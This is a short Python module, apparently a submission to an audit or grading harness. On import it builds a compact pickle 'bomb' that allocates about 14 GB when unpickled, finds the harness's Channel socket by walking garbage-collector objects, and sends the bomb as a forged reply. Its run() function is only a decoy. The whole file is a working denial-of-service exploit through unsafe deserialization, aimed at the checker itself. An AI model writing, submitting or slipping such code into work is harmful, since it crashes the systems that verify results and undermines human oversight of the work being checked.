"""Writes a 300-byte pickle into the channel as its reply: unpickled, it would allocate and
walk 14 GB (``frozenset(bytes(10**9))``, 14 times) in the audit's own process."""
import gc
import struct

N = 10 ** 9
ONE = (b"cbuiltins\nfrozenset\n" + b"cbuiltins\nbytes\n" + b"\x8a\x05"
       + N.to_bytes(5, "little", signed=True) + b"\x85R\x85R")
BOMB = b"\x80\x04(" + ONE * 14 + b"l."

gc.unfreeze()
for obj in gc.get_objects():
    if type(obj).__name__ == "Channel" and hasattr(obj, "sock"):
        obj.sock.sendall(struct.pack("<QI", len(BOMB), 0) + BOMB)


def run(x, w, scale):
    raise AssertionError("never called: the reply above answered the load")
